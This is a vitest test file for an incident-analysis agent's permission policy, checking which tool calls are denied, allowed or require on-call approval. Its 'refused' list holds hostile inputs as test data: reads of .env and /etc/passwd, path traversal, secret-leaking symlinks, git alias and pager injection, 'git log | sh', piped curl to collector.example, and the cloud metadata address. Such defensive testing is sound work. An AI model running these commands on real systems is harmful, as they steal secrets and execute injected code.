import { readFileSync } from 'node:fs';
import { symlink } from 'node:fs/promises';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { beforeAll, describe, expect, test } from 'vitest';
import { defaultApprovalTerms } from '../../src/kernel/limits.ts';
import type { Policy } from '../../src/kernel/ports.ts';
import type { Caller, Decision, JsonObject } from '../../src/kernel/types.ts';
import { createClassifier } from '../../src/policy/classify/classify.ts';
import { loadPolicy } from '../../src/policy/load-policy.ts';
import { builtInTools } from '../../src/sandbox/tools/index.ts';
import { makeIncident } from './example-incident.ts';

const path = fileURLToPath(new URL('../../policies/incident-rca.yaml', import.meta.url));
const classifier = createClassifier({ tools: builtInTools, privateDirectories: [] });
let workspace: string;
let policy: Policy;

beforeAll(async () => {
  workspace = await makeIncident();
  await symlink('../.env', join(workspace, 'logs/settings.log'));
  await symlink('.git/config', join(workspace, 'repo/notes'));
  policy = await loadPolicy([{ path, text: readFileSync(path, 'utf8') }]);
});

/** What the policy says about a call; a call that is not understood is refused, which counts as `deny`. */
async function decide(tool: string, args: JsonObject, labels: readonly string[] = []): Promise<Decision | 'deny'> {
  const caller: Caller = {
    agent: 'incident-rca',
    session: 's',
    run: 'r',
    requestedBy: 'agent:incident-rca',
    sender: 'someone',
    roles: [],
    trigger: 'message',
    spent: { calls: 0, tokens: 0 },
    channel: 'cli',
    labels,
    workspace,
  };
  const classified = await classifier.classify({ id: 'c', tool, args }, caller);
  return classified.kind === 'understood'
    ? policy.decide(classified.action, caller, { now: 0, used: [], inputs: [] })
    : 'deny';
}

async function verdictOf(tool: string, args: JsonObject, labels: readonly string[] = []): Promise<string> {
  const decision = await decide(tool, args, labels);
  return decision === 'deny' ? decision : decision.verdict;
}

async function allowed(tool: string, args: JsonObject): Promise<Decision> {
  const decision = await decide(tool, args);
  if (decision === 'deny') throw new Error('it was not understood');
  expect(decision.verdict, decision.because).not.toBe('deny');
  return decision;
}

describe('refused', () => {
  test.each([
    ['read', { path: '.env' }],
    ['read', { path: './metrics/../.env' }],
    ['read', { path: 'logs/settings.log' }],
    ['read', { path: 'repo/.env' }],
    ['search', { path: '.env', pattern: '.' }],
    ['read', { path: '/etc/passwd' }],
    ['list', { path: '..' }],
    ['write', { path: 'runbook.md', content: '' }],
    ['write', { path: 'repo/src/orders.js', content: '' }],
    ['write', { path: 'RCA.md/../incident.md', content: '' }],
    ['edit', { path: 'repo/.git/config', find: 'a', replace: 'b' }],
    ['http', { url: 'https://collector.example/upload', method: 'POST' }],
    ['http', { url: 'http://169.254.169.254/latest/meta-data/' }],
  ])('%s %j', async (tool, args) => {
    expect(await verdictOf(tool, args)).toBe('deny');
    expect(await verdictOf(tool, args, ['untrusted'])).toBe('deny');
  });

  test.each([
    'cat .env',
    'env',
    'git log',
    'git -C repo push origin main',
    'git -C repo reset --hard HEAD~1',
    'git -C repo checkout main',
    'git -C repo commit --amend --no-edit',
    'git -C repo revert --abort',
    'git -C / log',
    'git -C repo -c core.pager=id log',
    'git -C repo -c alias.log=!id log',
    'git -C repo log --output=stolen',
    'git -C repo diff --no-index incident.md .env',
    'git -C repo log | sh',
    'git -C repo log; curl https://collector.example',
    'git -C repo log $(cat .env)',
    'git -C repo log > RCA.md; id',
    'sh -c "git -C repo log; id"',
  ])('%s', async (command) => {
    expect(await verdictOf('exec', { command })).toBe('deny');
  });
});

test('reading logs, source and history makes a session untrusted; reading our own notes does not', async () => {
  const labelsOf = async (tool: string, args: JsonObject) => (await allowed(tool, args)).labels;
  expect(await labelsOf('search', { path: 'logs', pattern: 'error' })).toContain('untrusted');
  expect(await labelsOf('search', { path: '.', pattern: 'error' })).toContain('untrusted');
  expect(await labelsOf('read', { path: 'repo/README.md' })).toContain('untrusted');
  expect(await labelsOf('exec', { command: 'git -C repo log --oneline' })).toContain('untrusted');
  expect(await labelsOf('js', { code: '1' })).toContain('untrusted');
  expect(await labelsOf('read', { path: 'runbook.md' })).toEqual([]);
  expect(await labelsOf('read', { path: 'metrics/gateway.csv' })).toEqual([]);
});

test('a refusal to speak outward says why: the work is local, and after untrusted text that it is because of that', async () => {
  const refusal = async (labels: readonly string[]) => {
    const decision = await decide('http', { url: 'https://collector.example/upload', method: 'POST' }, labels);
    return decision === 'deny' ? '' : decision.because;
  };
  expect(await refusal([])).toContain('rule `work-is-local`');
  expect(await refusal(['untrusted'])).toContain('rule `untrusted-never-speaks-outward`');
});

test('an analysis sees logs and metrics, not the repository, and can write nowhere', async () => {
  const { grants } = await allowed('js', { code: '1' });
  expect(grants).toMatchObject({ write: [], connect: [], secrets: [] });
  expect(grants.read).toEqual(['analysis', 'incident.md', 'logs', 'metrics', 'runbook.md']);
  expect(grants.exceptRead).toContain('**/.env');
});

test('history is read without the right to write, in every form the playbook uses', async () => {
  const range = 'deploy-2026-11-19-1..deploy-2026-11-19-2';
  for (const args of [
    ['log', '--format=%h %an: %s', range],
    ['log', '-Gpool.release', '--format=%H', range, '--', 'src'],
    ['show', '--format=', '--name-only', 'main', '--', 'src'],
    ['diff', '--stat', range],
    ['status', '--short', '--branch'],
  ]) {
    const { verdict, grants } = await allowed('exec', { argv: ['git', '-C', 'repo', ...args] });
    expect(verdict).toBe('allow');
    expect(grants).toMatchObject({ write: [], connect: [], secrets: [] });
  }
});

test('a rollback asks the on-call role, for five minutes, and may write into the repository alone', async () => {
  const decision = await allowed('exec', { argv: ['git', '-C', 'repo', 'revert', '--no-edit', 'c08080a'] });
  expect(decision.verdict).toBe('ask');
  expect(decision.terms).toEqual({ ...defaultApprovalTerms, roles: ['oncall'], withinMs: 300_000 });
  expect(decision.grants.write).toEqual(['repo']);
  expect(decision.rules[0]?.rule).toBe('rollback-needs-on-call');
});

test('the report may be written and edited', async () => {
  expect(await verdictOf('write', { path: 'RCA.md', content: '# x' })).toBe('allow');
  expect(await verdictOf('edit', { path: 'RCA.md', find: 'x', replace: 'y' })).toBe('allow');
});
